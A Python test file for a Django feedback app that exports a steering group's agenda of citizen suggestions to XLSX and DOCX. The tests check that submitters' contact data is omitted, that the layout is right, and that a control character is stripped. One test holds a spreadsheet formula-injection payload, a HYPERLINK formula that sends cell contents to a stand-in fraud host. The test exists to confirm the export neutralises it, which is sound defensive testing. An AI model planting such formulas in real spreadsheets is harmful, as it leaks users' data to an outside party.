"""The agenda as XLSX and DOCX: the table a steering group approves, without contact data."""

import io

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from kpss.feedback import services

from .conftest import tracking_url_of

pytestmark = pytest.mark.django_db


@pytest.fixture
def agenda(world):
    answered = services.submit_suggestion(
        world.process,
        tracking_url_of=tracking_url_of,
        text="Chybí denní stacionář.",
        topic="seniors",
        municipality=world.territory.zdar,
        submitter_name="Bohumila Tajná",
        submitter_email="bohumila.tajna@example.cz",
        consent=True,
    )
    services.triage(answered, world.coordinator, group=world.seniors, department="Odbor sociálních věcí")
    services.settle(answered, world.leader, settlement="accepted", answer="Zařazeno do plánu.", tracking_url="x")
    waiting = services.submit_suggestion(world.process, tracking_url_of=tracking_url_of, text="Chybí\x0b taxi.")
    return answered, waiting


def test_xlsx_holds_the_filtered_agenda_without_contact(client, world, agenda):
    answered, waiting = agenda
    client.force_login(world.steering_member)

    response = client.get(reverse("feedback:agenda_xlsx", args=[world.process.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]

    assert len(rows) == 3
    by_code = {row[0]: row for row in rows[1:]}
    answered_row = by_code[answered.code]
    assert answered_row[1].date() == answered.received_on
    assert answered_row[4] == "Žďár nad Sázavou" and answered_row[5] == "Chybí denní stacionář."
    assert "PS Senioři" in answered_row[6] and "Odbor sociálních věcí" in answered_row[6]
    assert answered_row[9] == "Zařazeno do plánu."
    assert by_code[waiting.code][5] == "Chybí taxi."
    text = repr(rows)
    assert "Tajná" not in text and "bohumila" not in text

    filtered = client.get(reverse("feedback:agenda_xlsx", args=[world.process.pk]), {"status": "settled"})
    assert load_workbook(io.BytesIO(filtered.content)).active.max_row == 2


def test_docx_is_a_landscape_table_named_after_the_process(client, world, agenda):
    answered, _waiting = agenda
    client.force_login(world.coordinator)

    response = client.get(reverse("feedback:agenda_docx", args=[world.process.pk]))
    document = Document(io.BytesIO(response.content))

    section = document.sections[0]
    assert section.page_width > section.page_height
    assert world.process.name in document.paragraphs[0].text
    [table] = document.tables
    assert len(table.rows) == 3
    cells = [cell.text for row in table.rows for cell in row.cells]
    assert answered.code in cells and "Zařazeno do plánu." in cells
    assert not any("Tajná" in cell or "bohumila" in cell for cell in cells)


def test_a_suggestion_typed_as_a_formula_stays_text_in_the_xlsx(client, world):
    formula = '=HYPERLINK("http://podvod.example/?"&A1,"Klikněte")'
    services.submit_suggestion(world.process, tracking_url_of=tracking_url_of, text=formula)
    client.force_login(world.coordinator)

    response = client.get(reverse("feedback:agenda_xlsx", args=[world.process.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active

    cell = sheet.cell(row=2, column=6)
    assert cell.value == formula and cell.data_type == "s"
    assert sheet.cell(row=2, column=2).is_date
